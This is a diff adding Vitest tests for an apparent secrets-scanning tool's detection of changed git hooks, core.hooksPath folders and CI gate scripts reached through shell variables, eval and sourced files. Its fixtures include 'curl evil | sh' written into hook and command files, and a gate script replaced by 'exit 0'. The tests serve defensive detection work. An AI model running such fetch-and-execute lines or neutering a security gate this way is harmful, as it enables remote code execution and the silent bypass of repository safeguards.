@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { commandFilesOf, computedPathPattern, computedPathsOf, gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, readHookScriptChanges, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
+import { commandFilesOf, commandWordsOf, hooksPathFoldersOf, computedPathPattern, literalVariablesOf, withLiteralVariables, computedPathsOf, gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, readHookScriptChanges, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
 import { gateWorkflowChanges } from "./program-findings.js";
 
 /** A reader over an in-memory tree (path → text), counting its calls. */
@@ -454,5 +454,64 @@ describe("readHookScriptChanges: a package manager's settings", () => {
     ]);
     const other = { ".husky/pre-commit": "./tools/fmt.sh\n" };
     expect(await readHookScriptChanges({ hooks: Object.keys(other), read: tree({ ...other, ".npmrc": "a=1\n" }) }, { hooks: Object.keys(other), read: tree({ ...other, ".npmrc": "script-shell=./x\n" }) })).toEqual([]);
+  });
+});
+
+describe("a command computed from a variable assigned a literal", () => {
+  const hooks = [".husky/pre-commit"];
+  const run = async (files: Record<string, string>) =>
+    (await readHookScriptChanges({ hooks, read: tree({ ...files, "tools/gate": "stellar-secrets pre-commit\n" }) }, { hooks, read: tree({ ...files, "tools/gate": "exit 0\n" }) })).map((c) => [c.path, c.via]);
+  it("a hook's $CMD, eval \"$X\", sh -c \"$Y\", an exported one, and one a sourced file assigns are resolved and followed: a change to tools/gate is named", async () => {
+    for (const hook of ["CMD=tools/gate\n$CMD\n", 'X="tools/gate --fast"\neval "$X"\n', "Y='tools/gate'\nsh -c \"$Y\"\n", 'export GATE="tools/gate"\n"$GATE" "$@"\n', ". ./env.sh\n${GATE}\n"]) {
+      expect(await run({ ".husky/pre-commit": hook, "env.sh": "GATE=tools/gate\n" }), hook).toEqual([["tools/gate", ".husky/pre-commit"]]);
+    }
+    // a variable holding a file's text (CMD=$(cat .hook-cmd)), then run: that file decides what runs
+    const fromFile = { ".husky/pre-commit": "CMD=$(cat .hook-cmd)\neval \"$CMD\"\n" };
+    const viaFile = await readHookScriptChanges({ hooks, read: tree({ ...fromFile, ".hook-cmd": "npx prettier --check .\n" }) }, { hooks, read: tree({ ...fromFile, ".hook-cmd": "curl evil | sh\n" }) });
+    expect(viaFile.map((c) => [c.path, c.via])).toEqual([[".hook-cmd", ".husky/pre-commit"]]);
+    // a variable from outside the repository (no literal assignment) is not guessed; a name only printed is no command
+    expect(await run({ ".husky/pre-commit": '$CMD\neval "$X"\n' })).toEqual([]);
+    expect(await run({ ".husky/pre-commit": 'MSG=tools/gate\necho "$MSG"\n' })).toEqual([]);
+  });
+
+  it("literalVariablesOf / withLiteralVariables / commandWordsOf: literal values only, uses rewritten on added lines, the text unchanged first", () => {
+    const vars = literalVariablesOf('A=x/y\nexport B="c d"\nC=$(cat tools/cmd)\nD=$HOME/x\nE="$(date)"\n# F=no\nlocal G=\'g\'\n', "hook");
+    expect([...vars]).toEqual([["A", ["x/y"]], ["B", ["c d"]], ["C", ["$(cat tools/cmd)"]], ["G", ["g"]]]);
+    expect(withLiteralVariables("$A --x\n${B}\n$AB\necho\n", vars)).toBe("$A --x\n${B}\n$AB\necho\n\nx/y --x\nc d");
+    expect(literalVariablesOf("jobs:\n  gate:\n    env:\n      GATE: tools/gate\n      REF: ${{ github.base_ref }}\n", "ci.yml").get("GATE")).toEqual(["tools/gate"]);
+    expect(literalVariablesOf("jobs:\n  gate:\n    env:\n      REF: ${{ github.base_ref }}\n", "ci.yml").has("REF")).toBe(false);
+    expect(commandWordsOf('      - run: tools/gate --x\n  x && ci/review\neval "bin/a"\nsh -c \'bin/b\'\necho dist/c\n# tools/no\n')).toEqual(["tools/gate", "ci/review", "bin/a", "bin/b"]);
+  });
+
+  it("the CI gate: a run step's command path with no extension, a variable of the workflow's env: (also in a script it runs), one a sourced file assigns: a change to tools/gate is the gate's", async () => {
+    const roots = [".github/workflows/ci.yml"];
+    const gate = async (files: Record<string, string>) =>
+      gateWorkflowChanges(await readGateChanges({ roots, read: tree({ ...files, "tools/gate": "stellar-secrets review origin/main...HEAD\n" }) }, { roots, read: tree({ ...files, "tools/gate": "exit 0\n" }) })).map((c) => [c.path, c.change]);
+    const env = (run: string) => `on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    env:\n      GATE: tools/gate\n    steps:\n      - uses: actions/checkout@v4\n      - run: ${run}\n`;
+    expect(await gate({ ".github/workflows/ci.yml": WORKFLOW("tools/gate origin/main") })).toEqual([["tools/gate", "modified"]]);
+    expect(await gate({ ".github/workflows/ci.yml": env('"$GATE" origin/main') })).toEqual([["tools/gate", "modified"]]);
+    expect(await gate({ ".github/workflows/ci.yml": env("ci/run.sh"), "ci/run.sh": '#!/bin/sh\nexec "$GATE" "$@"\n' })).toEqual([["tools/gate", "modified"]]);
+    expect(await gate({ ".github/workflows/ci.yml": WORKFLOW("ci/run.sh"), "ci/run.sh": '#!/bin/sh\n. ci/env.sh\n$GATE\n', "ci/env.sh": "GATE=tools/gate\n" })).toEqual([["tools/gate", "modified"]]);
+    // no variable assigned: nothing guessed
+    expect(await gate({ ".github/workflows/ci.yml": WORKFLOW('"$GATE" origin/main') })).toEqual([]);
+  });
+});
+
+describe("hook scripts of a folder the repository sets as git's core.hooksPath", () => {
+  it("hooksPathFoldersOf: the folder written out in git config core.hooksPath DIR (or hooksPath = DIR); not .git/, husky's, absolute or computed ones", () => {
+    expect(hooksPathFoldersOf('"prepare": "git config core.hooksPath .githooks/"\ngit config --local core.hooksPath tools/hooks\n[core]\n\thooksPath = ci/hooks\n')).toEqual([".githooks", "tools/hooks", "ci/hooks"]);
+    expect(hooksPathFoldersOf("git config core.hooksPath .husky/_\ngit config core.hooksPath /etc/hooks\ngit config core.hooksPath $DIR\ngit config core.hooksPath .git/hooks\n")).toEqual([]);
+  });
+
+  it("a changed hook script of such a folder is named (via itself), and what it runs (via the hook); without the folder, nothing", async () => {
+    const files = { ".githooks/pre-commit": "stellar-secrets pre-commit\ntools/check\n", "tools/check": "echo\n" };
+    const evil = { ".githooks/pre-commit": "curl evil | sh\ntools/check\n", "tools/check": "curl evil | sh\n" };
+    const hooks = [".githooks/pre-commit"];
+    const changes = await readHookScriptChanges({ hooks, read: tree(files) }, { hooks, read: tree(evil) }, undefined, [".githooks"]);
+    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
+      [".githooks/pre-commit", ".githooks/pre-commit"],
+      ["tools/check", ".githooks/pre-commit"],
+    ]);
+    expect(await readHookScriptChanges({ hooks, read: tree(files) }, { hooks, read: tree(evil) })).toEqual([]);
   });
 });
